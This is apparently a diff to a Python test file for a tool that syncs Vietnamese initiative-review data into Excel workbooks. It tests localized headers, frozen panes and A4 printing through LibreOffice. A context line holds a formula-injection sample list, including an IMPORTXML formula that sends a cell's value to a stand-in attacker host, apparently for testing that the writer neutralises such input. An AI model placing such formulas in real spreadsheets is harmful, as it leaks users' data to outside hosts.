@@ -16,6 +16,7 @@ from sync.report import REPORT_FILE
 from sync.review.state import STATE_FILE
 from sync.templates import load_templates
 from sync.writers import xlsx
+from tests.conftest import REPO
 
 FORMULAS = ['=IMPORTXML("http://evil.example/?q="&A2, "//a")', "+84 912 820 510", "-1+2", "@SUM(1)"]
 
@@ -74,6 +75,15 @@ def test_layout_headers_formats_and_highlights(written) -> None:
     assert money.value == 2_000_000 and "#,##0" in money.number_format
     assert sheet.conditional_formatting  # invalid and duplicate rows are highlighted
     assert len(book["Bảng điều khiển"]._charts) == 4
+    tallies = {c.value: c.comment for c in book["Tổng hợp"][1]}
+    assert "MISSING_REQUIRED" not in tallies  # codes are headed by their Vietnamese names
+    assert tallies["Thiếu thông tin bắt buộc"].text.startswith("MISSING_REQUIRED")
+    grassroots = workbook_of(out, "P.TG.THPT")
+    assert grassroots.sheetnames[0] == "Bảng điều khiển"  # the same summary card everywhere
+    review = grassroots["Sáng kiến"]
+    assert review.freeze_panes == "C2"  # the id and the title stay in view
+    assert [c.value for c in review[1]][:4] == ["Mã sáng kiến", "Tên sáng kiến",
+                                               "Tóm tắt nội dung", "Trạng thái"]  # fmt: skip
 
 
 def test_people_sorted_by_given_name_in_vietnamese_order(small_campaign, tmp_path) -> None:
@@ -168,3 +178,52 @@ def test_a_writer_dies_with_the_sync_that_started_it(tmp_path) -> None:
             break
         time.sleep(0.05)
     assert not _alive(child)
+
+
+PRINT_TOOLS = ("soffice", "pdftoppm", "pdftotext", "pdfinfo")
+
+
+@pytest.mark.skipif(
+    any(shutil.which(tool) is None for tool in PRINT_TOOLS),
+    reason="LibreOffice or poppler is not installed",
+)
+def test_the_example_prints_on_a4_one_page_wide_with_a_one_page_dashboard(
+    example_copy, tmp_path
+) -> None:
+    """The province, a district and a grassroots union, printed through LibreOffice: every
+    page names its sheet in the footer and shows the sheet's first column (so nothing is cut
+    off to the right), the dashboard is one page and a grassroots review list a few."""
+    import importlib.util
+    from datetime import datetime
+
+    spec = importlib.util.spec_from_file_location("make", REPO / "docs" / "img" / "make.py")
+    assert spec and spec.loader
+    make = importlib.util.module_from_spec(spec)
+    spec.loader.exec_module(make)
+    out = tmp_path / "printed"
+    settings = read_settings(example_copy / "config.yaml")
+    run_sync(settings, out, now=datetime.fromisoformat("2021-04-10T08:00:00+07:00"))
+    templates = load_templates()
+    first_headers = {layout.name: layout.columns[0].header for layout in templates.sheets.values()}
+    first_headers[templates.review.all_initiatives_title] = "Mã sáng kiến"
+    for pattern in ("1-tinh/DB *.xlsx", "2-cap-tren-truc-tiep/DB.TG *.xlsx",
+                    "3-co-so/DB.TG.TH-TT *.xlsx"):  # fmt: skip
+        [workbook] = out.glob(pattern)
+        pdf = make.to_pdf(workbook, tmp_path / "pdf")
+        pages = make.sheet_pages(pdf)
+        assert pages[templates.dashboard.title] == [1]
+        size = make._pdfinfo(pdf)["Page size"]
+        assert "(A4)" in size
+        for title, numbers in pages.items():
+            if title == templates.dashboard.title:
+                continue
+            for page in numbers:
+                text = page_text(pdf, page)
+                assert first_headers[title] in text, (workbook.name, title, page)
+        if pattern.startswith("3-co-so"):
+            assert len(pages["Sáng kiến"]) <= 4
+
+
+def page_text(pdf: Path, page: int) -> str:
+    command = ["pdftotext", "-f", str(page), "-l", str(page), str(pdf), "-"]
+    return subprocess.run(command, capture_output=True, text=True, check=True).stdout
